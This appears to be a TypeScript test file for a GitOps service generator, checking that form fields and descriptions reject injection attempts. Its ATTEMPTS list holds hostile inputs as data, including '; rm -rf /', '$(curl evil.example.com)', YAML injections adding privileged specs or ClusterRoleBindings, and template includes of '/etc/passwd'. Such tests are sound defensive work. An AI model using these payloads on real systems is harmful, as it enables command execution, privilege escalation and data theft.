import {
  build,
  isInstalled,
  manifestsIn,
} from '../__testUtils__/gitops/manifests';
import { leftovers } from '../__testUtils__/gitops/leftovers';
import { PLATFORM, renderGitOps } from '../__testUtils__/gitops/renderGitOps';
import { schemaProblems } from '../__testUtils__/gitops/schemas';
import {
  createWorkspace,
  type Workspace,
} from '../__testUtils__/renderSkeleton';
import { describeService } from '../service/describeService';

/** What somebody would type who wants more than a model service. */
const ATTEMPTS = [
  'x\nspec: { privileged: true }',
  'x\r\n---\nkind: ClusterRoleBinding',
  "x' }]\nkind: Secret #",
  '"; rm -rf / #',
  '$(curl evil.example.com)',
  '`id`',
  '../../platform',
  '${{ secrets.TOKEN }}',
  '{{ 7 * 7 }}',
  '{% include "/etc/passwd" %}',
  '{# gone #}',
  '{{workflow.name}}',
  '*',
  '&anchor',
  '!!js/function x',
  'a: b',
  '# comment',
  'x, applications, *, */*, allow',
  '\u0000',
  '\u202e',
  'x'.repeat(300),
];

/** Every text of the form that is not chosen from a list, by its path. */
const FIELDS: Record<string, (text: string) => Record<string, unknown>> = {
  name: name => ({ name }),
  owner: owner => ({ owner }),
  system: system => ({ system }),
  'retraining.schedule': schedule => ({ retraining: { schedule } }),
  abHeader: abHeader => ({ rollout: 'ab-test', abHeader }),
  'environments.name': name => ({ environments: [{ name }] }),
  'environments.cluster': cluster => ({
    environments: [{ name: 'dev', cluster }],
  }),
  'environments.namespace': namespace => ({
    environments: [{ name: 'dev', namespace }],
  }),
  'regions.name': name => ({ regions: [{ name }] }),
  'regions.cluster': cluster => ({ regions: [{ name: 'eu', cluster }] }),
  slackChannel: slackChannel => ({ slackChannel }),
  harborHost: harborHost => ({ registry: 'harbor', harborHost }),
  repoOwner: repoOwner => ({ repoOwner }),
};

/** Each in the place of every choice and every number of the form. */
const NOT_TEXT: Record<string, (value: unknown) => Record<string, unknown>> = {
  problem: problem => ({ problem }),
  framework: framework => ({ framework }),
  serving: serving => ({ serving }),
  rollout: rollout => ({ rollout }),
  trafficProvider: trafficProvider => ({ trafficProvider }),
  secrets: secrets => ({ secrets }),
  registry: registry => ({ registry }),
  layout: layout => ({ layout }),
  gitHost: gitHost => ({ gitHost }),
  minimumSample: minimumSample => ({ minimumSample }),
  maxLatencyMilliseconds: maxLatencyMilliseconds => ({
    maxLatencyMilliseconds,
  }),
  iterations: iterations => ({ iterations }),
  canarySteps: step => ({ canarySteps: [step] }),
  'gates.precision': precision => ({ gates: { precision } }),
  'regressionGates.mae': mae => ({ regressionGates: { mae } }),
  'retraining.driftThreshold': driftThreshold => ({
    retraining: { driftThreshold },
  }),
  'environments.replicas': replicas => ({
    environments: [{ name: 'dev', replicas }],
  }),
  'environments.autoSync': autoSync => ({
    environments: [{ name: 'dev', autoSync }],
  }),
  pagerDuty: pagerDuty => ({ pagerDuty }),
};

const describeWith = (parameters: Record<string, unknown>) =>
  describeService(
    { name: 'fraud-detection', owner: 'team-fraud', ...parameters },
    PLATFORM,
  );

describe('more than an answer', () => {
  it.each(Object.keys(FIELDS))('is refused in the text %s', field => {
    for (const attempt of ATTEMPTS) {
      expect(() => describeWith(FIELDS[field](attempt))).toThrow(
        field.split('.')[0],
      );
    }
  });

  it.each(Object.keys(NOT_TEXT))('is refused in place of %s', field => {
    for (const attempt of [...ATTEMPTS, { a: 1 }, [], Infinity, NaN]) {
      expect(() => describeWith(NOT_TEXT[field](attempt))).toThrow(
        field.split('.')[0],
      );
    }
  });

  it.each(['__proto__', 'constructor', 'values', 'token'])(
    'is refused as a field %s',
    field => {
      const parameters = JSON.parse(
        `{"name":"fraud-detection","owner":"team-fraud","${field}":{"a":1}}`,
      );
      expect(() => describeService(parameters, PLATFORM)).toThrow(field);
    },
  );
});

describe('a description of any kind', () => {
  let workspace: Workspace;
  beforeEach(async () => {
    workspace = await createWorkspace();
  });
  afterEach(() => workspace.remove());

  it.each(ATTEMPTS.filter(attempt => !refused(attempt)))(
    'changes nothing that is deployed: %j',
    async description => {
      const plain = await renderGitOps({}, workspace, { folder: 'plain' });
      const described = await renderGitOps({ description }, workspace, {
        folder: 'described',
      });
      expect([...described.files.values()].flatMap(leftovers)).toEqual([]);
      expect(manifestsIn(described.files)).toEqual(manifestsIn(plain.files));
    },
  );

  it('is refused when a template or YAML could see more in it', () => {
    expect(ATTEMPTS.filter(refused)).toEqual(
      expect.arrayContaining([
        '${{ secrets.TOKEN }}',
        '{{ 7 * 7 }}',
        '{% include "/etc/passwd" %}',
        '\u0000',
      ]),
    );
  });

  it('stays where the longest names meet', async () => {
    const { files, directory, service } = await renderGitOps(
      {
        name: `m${'x'.repeat(39)}`,
        environments: [{ name: `e${'x'.repeat(19)}` }],
        slackChannel: 's'.repeat(79),
        repoOwner: 'o'.repeat(39),
      },
      workspace,
    );
    expect(manifestsIn(files).flatMap(schemaProblems)).toEqual([]);
    if (await isInstalled('kubectl', 'kustomize', '--help')) {
      const [{ path }] = service.overlays;
      const built = await build(`${directory}/gitops/overlays/${path}`);
      expect(built.flatMap(schemaProblems)).toEqual([]);
    }
  });
});

function refused(description: string): boolean {
  try {
    describeWith({ description });
    return false;
  } catch {
    return true;
  }
}
